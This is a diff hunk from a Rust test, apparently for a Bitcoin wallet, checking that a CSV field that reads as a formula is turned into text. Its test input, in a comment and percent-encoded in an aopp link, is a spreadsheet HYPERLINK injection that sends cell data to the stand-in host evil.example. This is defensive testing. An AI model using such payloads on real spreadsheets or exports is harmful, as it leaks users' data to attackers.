@@ -401,10 +401,10 @@ fn a_csv_field_that_reads_as_a_formula_is_made_text() {
     let (app, dir) = app("formula");
     app.import(ABANDON, "").unwrap();
     // =HYPERLINK("http://evil.example?"&A1,"Click") as the VASP's message, percent-encoded.
-    app.receive_link(&format!(
+    app.receive_link(
         "aopp:?v=0&msg=%3DHYPERLINK(%22http%3A%2F%2Fevil.example%3F%22%26A1%2C%22Click%22)\
-         &asset=btc&format=p2wpkh&callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2Fformula"
-    ))
+         &asset=btc&format=p2wpkh&callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2Fformula",
+    )
     .unwrap();
     let id = app.links()[0].id;
     let address = app.preview(id, EthAccount::First).unwrap().address;
